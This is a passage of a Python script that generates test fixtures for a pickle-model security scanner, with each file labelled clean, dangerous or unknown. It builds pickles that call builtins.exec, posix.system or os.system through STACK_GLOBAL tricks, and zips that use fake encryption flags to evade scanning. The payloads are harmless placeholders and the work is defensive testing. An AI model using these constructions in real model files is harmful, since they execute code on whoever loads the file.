    central_extra: bytes = b""
    crc: int = None
    version: int = 20
    mask_local: bool = False

    def __post_init__(self):
        if self.plain is None:
            self.plain = self.data
        if self.crc is None:
            self.crc = zlib.crc32(self.plain)


def write_zip(members, before_directory: bytes = b"", directory: bytes = None) -> bytes:
    """A zip of Members. `before_directory` is written between the last member and the central directory;
    `directory`, when given, replaces the central directory's bytes (an encrypted directory)."""
    out = bytearray()
    central = bytearray()
    for m in members:
        raw_name = m.name.encode()
        offset = len(out)
        crc, comp, size = (0, 0, 0) if m.mask_local else (m.crc, len(m.data), len(m.plain))
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, m.version, m.flags, m.method, 0, 0x21, crc, comp, size, len(raw_name), len(m.local_extra))
        out += raw_name + m.local_extra + m.data
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, m.version, m.version, m.flags, m.method, 0, 0x21, m.crc, len(m.data), len(m.plain),
            len(raw_name), len(m.central_extra), 0, 0, 0, 0, offset,
        )
        central += raw_name + m.central_extra
    out += before_directory
    cd_offset = len(out)
    cd = central if directory is None else directory
    out += cd
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(cd), cd_offset, 0)
    return bytes(out)


def torch_members(data_pkl: bytes, prefix: str = "archive", method: int = 0, flags: int = 0x800, mask_local: bool = False):
    """The members torch.save writes, as Members (stored, or deflated for the text ones), all with `flags`."""
    storage = struct.pack("<4f", 1.0, 2.0, 3.0, 4.0)

    def member(name, plain, m=method):
        data = plain if m == 0 else deflate_raw(plain)
        return Member(f"{prefix}/{name}", data, plain, method=m, flags=flags, mask_local=mask_local)

    return [
        member("data.pkl", data_pkl),
        member("byteorder", b"little"),
        member("data/0", storage, 0),
        member("data/1", storage, 0),
        member("version", b"3\n"),
    ]


# Traditional PKWARE encryption (APPNOTE 6.1): three keys updated with CRC-32, a 12-byte encrypted header.
_CRC_TABLE = []
for _n in range(256):
    _c = _n
    for _ in range(8):
        _c = (_c >> 1) ^ 0xEDB88320 if _c & 1 else _c >> 1
    _CRC_TABLE.append(_c)


def zipcrypto(plain: bytes, password: bytes, crc: int, seed: int) -> bytes:
    keys = [0x12345678, 0x23456789, 0x34567890]

    def crc_byte(value, byte):
        return _CRC_TABLE[(value ^ byte) & 0xFF] ^ (value >> 8)

    def update(byte):
        keys[0] = crc_byte(keys[0], byte)
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = crc_byte(keys[2], keys[1] >> 24)

    def stream_byte():
        temp = (keys[2] | 2) & 0xFFFF
        return ((temp * (temp ^ 1)) >> 8) & 0xFF

    for byte in password:
        update(byte)
    rng = random.Random(seed)
    header = bytes(rng.randrange(256) for _ in range(11)) + bytes([crc >> 24])
    out = bytearray()
    for byte in header + plain:
        out.append(byte ^ stream_byte())
        update(byte)
    return bytes(out)


def noise(count: int, seed: int) -> bytes:
    rng = random.Random(seed)
    return bytes(rng.randrange(256) for _ in range(count))


def aes_extra(actual_method: int) -> bytes:
    """WinZip AES extra field 0x9901: AE-2, vendor "AE", AES-256, the real compression method."""
    return struct.pack("<HHH2sBH", 0x9901, 7, 2, b"AE", 3, actual_method)


def strong_extra() -> bytes:
    """Strong Encryption Header extra field 0x0017: format 2, AES-128 (0x660E), 128 bits, flags 1."""
    return struct.pack("<HHHHHH", 0x0017, 8, 2, 0x660E, 128, 1)


def decryption_header(seed: int) -> bytes:
    """A Decryption Header (APPNOTE 7.2.4): IV, size, format 3, AES-128, encrypted random data, validation."""
    iv = noise(16, seed)
    erd = noise(16, seed + 1)
    validation = noise(16, seed + 2)
    rest = struct.pack("<HHHHH", 3, 0x660E, 128, 1, len(erd)) + erd + struct.pack("<I", 0) + struct.pack("<H", len(validation) + 4) + validation + struct.pack("<I", zlib.crc32(validation))
    return struct.pack("<H", len(iv)) + iv + struct.pack("<I", len(rest)) + rest


def stack_global(operands: bytes, after: bytes = STOP, protocol: int = 4) -> bytes:
    return (proto(protocol) if protocol else b"") + operands + STACK_GLOBAL + after


def coreml_compiled_zip() -> bytes:
    """What `Model.mlmodelc.zip` holds (a compiled CoreML model, as in apple/coreml-* repos): binary
    descriptors, metadata, the MIL program as text and a weight blob file, under one folder."""
    rng = random.Random(24)
    weights = struct.pack("<II", 3, 2) + bytes(56) + b"".join(struct.pack("<IIQQ", 0xDEADBEEF, 1, 4096, 64 * (i + 1)) + bytes(40) for i in range(3))
    weights += struct.pack(f"<{3 * 1024}f", *[rng.uniform(-1, 1) for _ in range(3 * 1024)])
    mil = ("program(1.0)\n[buildInfo = dict<tensor<string, []>, tensor<string, []>>({{\"coremlc-version\", \"1436.100.10\"}})]\n{\n"
           + "".join(f"    tensor<fp16, [768, 768]> w_{i} = const()[name = tensor<string, []>(\"w_{i}\"), val = tensor<fp16, [768, 768]>(BLOBFILE(path = tensor<string, []>(\"@model_path/weights/weight.bin\"), offset = tensor<uint64, []>({64 * (i + 1)})))];\n" for i in range(40))
           + "}\n").encode()
    metadata = json.dumps([{"metadataOutputVersion": "3.0", "shortDescription": "Stable Diffusion text encoder", "specificationVersion": 7,
                            "computePrecision": "Mixed (Float16, Int32)", "modelType": {"name": "MLModelType_mlProgram"}}], indent=2).encode()
    descriptor = b"\x08\x07\x12" + bytes([rng.randrange(256) for _ in range(600)])
    members = [
        ("TextEncoder.mlmodelc/analytics/coremldata.bin", b"\x0a\x04" + noise(190, 1), 8),
        ("TextEncoder.mlmodelc/coremldata.bin", descriptor, 8),
        ("TextEncoder.mlmodelc/metadata.json", metadata, 8),
        ("TextEncoder.mlmodelc/model.mil", mil, 8),
        ("TextEncoder.mlmodelc/weights/weight.bin", weights, 0),
    ]
    return make_zip([("TextEncoder.mlmodelc/", b"", 0), ("TextEncoder.mlmodelc/weights/", b"", 0)] + members)


def coreml_package_zip() -> bytes:
    """An `.mlpackage` zipped: Manifest.json, the model spec (protobuf) and its weights."""
    manifest = json.dumps({"fileFormatVersion": "1.0.0", "itemInfoEntries": {"A1": {"author": "com.apple.CoreML", "path": "com.apple.CoreML/model.mlmodel"}}, "rootModelIdentifier": "A1"}).encode()
    return make_zip([
        ("Unet.mlpackage/Manifest.json", manifest, 8),
        ("Unet.mlpackage/Data/com.apple.CoreML/model.mlmodel", b"\x08\x07\x12" + noise(2000, 2), 8),
        ("Unet.mlpackage/Data/com.apple.CoreML/weights/weight.bin", struct.pack("<II", 5, 2) + bytes(56) + noise(6000, 3), 0),
    ])


def images_zip() -> bytes:
    """A dataset's image archive: PNG files and a labels file."""
    members = [(f"images/{i:04d}.png", b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sIIBBBBB", 13, b"IHDR", 32, 32, 8, 2, 0, 0, 0) + noise(1200, 100 + i), 0) for i in range(24)]
    labels = "".join(f"images/{i:04d}.png,{i % 3}\n" for i in range(24)).encode()
    return make_zip(members + [("labels.csv", labels, 8)])


class Storage:
    """A tensor storage: the pickler writes it as a persistent id, as torch.save does."""

    def __init__(self, key: str, numel: int):
        self.key, self.numel = key, numel


class Tensor:
    def __init__(self, key: str, shape):
        self.storage, self.shape = Storage(key, 4), shape

    def __reduce__(self):
        return Named("torch._utils", "_rebuild_tensor_v2"), (self.storage, 0, self.shape, (self.shape[1], 1), False, OrderedDictStandIn())


class OrderedDictStandIn(dict):
    def __reduce__(self):
        return Named("collections", "OrderedDict"), (), None, None, iter(self.items())


class NumpyDtype:
    def __reduce__(self):
        return Named("numpy", "dtype"), ("f8", False, True), (3, "<", None, None, None, -1, -1, 0)


class NumpyScalar:
    """numpy.float64 as numpy pickles it: numpy.core.multiarray.scalar(dtype, raw bytes)."""

    def __init__(self, value: float):
        self.raw = struct.pack("<d", value)

    def __reduce__(self):
        return Named("numpy.core.multiarray", "scalar"), (NumpyDtype(), self.raw)


class TorchPickler(FixturePickler):
    def persistent_id(self, obj):
        if isinstance(obj, Storage):
            return ("storage", Named("torch", "FloatStorage"), obj.key, "cpu", obj.numel)
        return None


def lightning_checkpoint() -> bytes:
    """A Lightning 1.x checkpoint as Stable Diffusion 1.x's .ckpt files are: the state dict, and a
    "callbacks" dict keyed by the ModelCheckpoint class, whose state holds numpy scalars; at protocol 2
    (torch.save's default), so bytes are written as _codecs.encode."""
    state = OrderedDictStandIn()
    state["model.diffusion_model.input_blocks.0.0.weight"] = Tensor("0", (2, 2))
    state["model.diffusion_model.input_blocks.0.0.bias"] = Tensor("1", (2, 2))
    callback = Named("pytorch_lightning.callbacks.model_checkpoint", "ModelCheckpoint")
    checkpoint = {
        "epoch": 6,
        "global_step": 840000,
        "pytorch-lightning_version": "1.4.2",
        "state_dict": state,
        "callbacks": {callback: {"monitor": None, "best_model_score": NumpyScalar(0.1234), "current_score": NumpyScalar(0.125), "dirpath": "logs/checkpoints"}},
        "optimizer_states": [],
        "lr_schedulers": [],
    }
    out = io.BytesIO()
    TorchPickler(out, 2).dump(checkpoint)
    return check(out.getvalue(), strict=False)


def issue_fixtures():
    """Yields (name, bytes, description, class, source) for issues 24 and 28."""
    benign = torch_state_dict()
    evil = inject(Call(Named("builtins", "exec"), HARMLESS), benign)

    # A zip is pickle weights only if it holds a pickle member.
    yield "coreml-text-encoder.mlmodelc.zip", coreml_compiled_zip(), "a compiled CoreML model zipped (analytics/coremldata.bin, coremldata.bin, metadata.json, model.mil, weights/weight.bin): no pickle member -> clean", "zip without pickles", "issue 24"
    yield "coreml-unet.mlpackage.zip", coreml_package_zip(), "a CoreML .mlpackage zipped (Manifest.json, model.mlmodel, weights/weight.bin): no pickle member -> clean", "zip without pickles", "issue 24"
    yield "images.zip", images_zip(), "24 PNG images and a labels.csv: no pickle member -> clean", "zip without pickles", "issue 24"
    scaler = dumps(Call(Named("collections", "OrderedDict"), [("mean", 0.5), ("std", 0.25)]), 4)
    yield "pickle-in-zip.zip", make_zip([("README.md", b"a fitted scaler\n", 8), ("model/scaler.pkl", scaler, 8)]), "a zip holding a benign pickle (model/scaler.pkl): a pickle member, judged by its imports -> clean", "zip with pickles", "issue 24"
    yield "evil-pickle-in-zip.zip", make_zip([("images/0000.png", b"\x89PNG\r\n\x1a\n" + noise(300, 7), 0), ("payload.pkl", dumps(Call(Named("posix", "system"), "true"), 4), 8)]), "an images zip that also holds payload.pkl calling posix.system -> dangerous", "zip with pickles", "issue 24"
    yield "lightning-sd.ckpt", torch_zip(lightning_checkpoint()), "a Lightning 1.x checkpoint in a PyTorch zip, as Stable Diffusion 1.x's: the state dict, callbacks keyed by pytorch_lightning ModelCheckpoint, numpy scalars written with _codecs.encode -> clean", "well-known library classes", "issue 24"

    # Flag bits over data stored in the clear: PyTorch loads it, so it is judged as loaded.
    for bits, label in ((0x40, "6"), (0x2000, "13"), (0x2041, "0, 6 and 13"), (0x41, "0 and 6")):
        stem = label.replace(", ", "-").replace(" and ", "-")
        mask = bool(bits & 0x2000)
        masked = " (local headers masked, as bit 13 says)" if mask else ""
        yield f"flag-bit{stem}-torch.pt", write_zip(torch_members(evil, flags=0x800 | bits, mask_local=mask)), f"PyTorch zip whose entries set general-purpose flag bit {label} over data stored in the clear{masked}; data.pkl calls builtins.exec -> dangerous", "zip flag bits", "issue 28"
        yield f"flag-bit{stem}-benign.pt", write_zip(torch_members(benign, flags=0x800 | bits, mask_local=mask)), f"the benign PyTorch zip with flag bit {label} set over clear data -> clean", "zip flag bits", "issue 28"
    yield "flag-bit6-deflated-torch.pt", write_zip(torch_members(evil, method=8, flags=0x840)), "PyTorch zip with deflated members and flag bit 6 over clear data; data.pkl calls builtins.exec -> dangerous", "zip flag bits", "issue 28"
    yield "flag-bit0-deflated-benign.pt", write_zip(torch_members(benign, method=8, flags=0x801)), "the benign PyTorch zip, deflated, flag bit 0 over clear data -> clean", "zip flag bits", "issue 28"
    fake_aes = torch_members(evil)
    fake_aes[0].local_extra = fake_aes[0].central_extra = aes_extra(0)
    yield "aes-extra-over-clear-torch.pt", write_zip(fake_aes), "an AES extra field (0x9901) on a stored data.pkl whose bytes are in the clear (method 0, so PyTorch reads them); it calls builtins.exec -> dangerous", "zip flag bits", "issue 28"
    fake_strong = torch_members(evil, flags=0x841)
    fake_strong[0].local_extra = fake_strong[0].central_extra = strong_extra()
    yield "strong-extra-over-clear-torch.pt", write_zip(fake_strong), "a strong-encryption extra field (0x0017) and bits 0 and 6 on a data.pkl stored in the clear; it calls builtins.exec -> dangerous", "zip flag bits", "issue 28"

    # Really encrypted members of each kind: unknown, never clean.
    def encrypted(member_index: int, make):
        members = torch_members(benign)
        members[member_index] = make(members[member_index])
        return write_zip(members)

    def traditional(m, method=0):
        plain = m.plain
        body = plain if method == 0 else deflate_raw(plain)
        return Member(m.name, zipcrypto(body, b"secret", zlib.crc32(plain), 28), plain, method=method, flags=0x801)

    yield "encrypted-traditional-torch.pt", encrypted(0, traditional), "PyTorch zip whose data.pkl is really encrypted (traditional PKWARE, stored: a 12-byte header, sizes differ by 12) -> unknown", "zip encryption", "issue 28"
    yield "encrypted-traditional-deflated-torch.pt", encrypted(0, lambda m: traditional(m, 8)), "PyTorch zip whose data.pkl is really encrypted (traditional PKWARE over deflated data) -> unknown", "zip encryption", "issue 28"
    yield "encrypted-aes-torch.pt", encrypted(0, lambda m: Member(m.name, noise(16, 5) + noise(2, 6) + noise(len(m.plain), 7) + noise(10, 8), m.plain, method=99, flags=0x801, local_extra=aes_extra(0), central_extra=aes_extra(0), crc=0, version=51)), "PyTorch zip whose data.pkl is WinZip AES (method 99, extra 0x9901; random bytes stand for the ciphertext) -> unknown", "zip encryption", "issue 28"
    yield "encrypted-strong-torch.pt", encrypted(0, lambda m: Member(m.name, decryption_header(40) + noise(len(m.plain) + 16, 9), m.plain, method=0, flags=0x841, local_extra=strong_extra(), central_extra=strong_extra(), version=62)), "PyTorch zip whose data.pkl is PKWARE strong encryption (bits 0 and 6, extra 0x0017, a decryption header record before random ciphertext) -> unknown", "zip encryption", "issue 28"
    yield "encrypted-strong-no-extra-torch.pt", encrypted(0, lambda m: Member(m.name, decryption_header(50) + noise(len(m.plain) + 16, 10), m.plain, method=0, flags=0x841, version=62)), "the same strong encryption with no extra field: only the decryption header record at the data's start shows it -> unknown", "zip encryption", "issue 28"
    weights = Member("weights/model.bin", zipcrypto(noise(3000, 11), b"secret", zlib.crc32(noise(3000, 11)), 29), noise(3000, 11), flags=0x801)
    yield "encrypted-weights-member.zip", write_zip([Member("config.json", b'{"model_type": "bert"}'), weights]), "a zip with a clear config.json and a really encrypted weights/model.bin (traditional PKWARE) -> unknown", "zip encryption", "issue 28"
    config = b'{"model_type": "bert", "hidden_size": 768}'
    yield "encrypted-config-member.zip", write_zip([Member("README.md", b"weights\n"), Member("config.json", zipcrypto(config, b"secret", zlib.crc32(config), 30), config, flags=0x801)]), "a zip whose config.json is really encrypted (its directory entry shows the 12-byte header): what it holds is unknown -> unknown", "zip encryption", "issue 28"
    record = struct.pack("<II", 0x08064B50, 16) + noise(16, 12)
    yield "encrypted-central-directory.zip", write_zip(torch_members(benign, flags=0x2841, mask_local=True), before_directory=b"", directory=record + noise(300, 13)), "a zip whose central directory is itself encrypted (an archive extra data record, then ciphertext): its members cannot be listed -> unknown", "zip encryption", "issue 28"

    # STACK_GLOBAL on values that are not plain strings: imports that cannot be resolved, so not cleared.
    call_true = short_binunicode("true") + TUPLE1 + REDUCE + STOP
    yield "stack-global-int-only.pkl", check(stack_global(binint1(1) + binint1(2)), strict=False), "STACK_GLOBAL on two numbers and nothing else: the trick alone -> dangerous", "STACK_GLOBAL trick", "issue 28"
    yield "stack-global-int.pkl", check(stack_global(binint1(1) + short_binunicode("system"), call_true), strict=False), "STACK_GLOBAL whose module is a number, then called with 'true' -> dangerous", "STACK_GLOBAL trick", "issue 28"
    yield "stack-global-none.pkl", check(stack_global(short_binunicode("os") + NONE, call_true), strict=False), "STACK_GLOBAL whose name is None -> dangerous", "STACK_GLOBAL trick", "issue 28"
    yield "stack-global-tuple.pkl", check(stack_global(short_binunicode("os") + TUPLE1 + short_binunicode("system"), call_true), strict=False), "STACK_GLOBAL whose module is the tuple ('os',) -> dangerous", "STACK_GLOBAL trick", "issue 28"
    yield "stack-global-bytes.pkl", check(stack_global(b"C\x02os" + b"C\x06system", call_true), strict=False), "STACK_GLOBAL on bytes b'os', b'system' (not str) -> dangerous", "STACK_GLOBAL trick", "issue 28"
    yield "stack-global-memo-int.pkl", check(stack_global(binint1(7) + binput(3) + POP + binget(3) + short_binunicode("system"), call_true), strict=False), "STACK_GLOBAL whose module is a number kept in the memo (BINPUT, BINGET) -> dangerous", "STACK_GLOBAL trick", "issue 28"
    yield "stack-global-memo-global.pkl", check(stack_global(global_("collections", "OrderedDict") + binput(1) + POP + binget(1) + short_binunicode("system"), call_true), strict=False), "STACK_GLOBAL whose module is an imported class taken from the memo -> dangerous", "STACK_GLOBAL trick", "issue 28"
    yield "stack-global-reduce.pkl", check(stack_global(global_("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + short_binunicode("system"), call_true), strict=False), "STACK_GLOBAL whose module is the result of a call (REDUCE) -> dangerous", "STACK_GLOBAL trick", "issue 28"
    trick = proto(2) + binint1(1) + short_binunicode("system") + STACK_GLOBAL + POP
    yield "stack-global-int-torch.pt", torch_zip(check(trick + benign[2:], strict=False)), "PyTorch zip: the STACK_GLOBAL-on-a-number trick before the benign state dict -> dangerous", "STACK_GLOBAL trick", "issue 28"
    yield "stack-global-noise.bin", binint1(1) + binint1(2) + STACK_GLOBAL + b"\xff" + noise(200, 14), "raw bytes that spell BININT1, BININT1, STACK_GLOBAL by chance, no PROTO, then fail: not a pickle -> unknown", "non-pickle bytes", "issue 28"


def main() -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    lines = [
        "# Pickle fixtures",
        "",
        "Generated by `python3 scripts/make-pickle-fixtures.py`: hand-written opcodes, and (peer classes, issue 15)",
        "Python's own pickler naming stand-ins. Nothing here was produced by running the code it names, and no test",
        "ever unpickles these files. `manifest.json` gives each file's expected verdict. Regenerate, do not edit.",
        "",
    ]
    manifest = []
    entries = [(n, d, t, "", "") for n, d, t in fixtures()] + list(peer_fixtures()) + list(issue_fixtures())
    for name, data, description, klass, source in entries:
        (OUT / name).write_bytes(data)
        lines.append(f"- `{name}` ({len(data)} bytes): {description}")
        expect = description.rsplit("-> ", 1)[1].split()[0]
        assert expect in ("clean", "dangerous", "unknown", "suspicious"), name
        manifest.append({"file": name, "expect": expect, **({"class": klass} if klass else {}), **({"source": source} if source else {})})
    (OUT / "README.md").write_text("\n".join(lines) + "\n")
    (OUT / "manifest.json").write_text(json.dumps(manifest, indent=1) + "\n")
    print(f"wrote {len(entries)} fixtures to {OUT}")


if __name__ == "__main__":
    main()
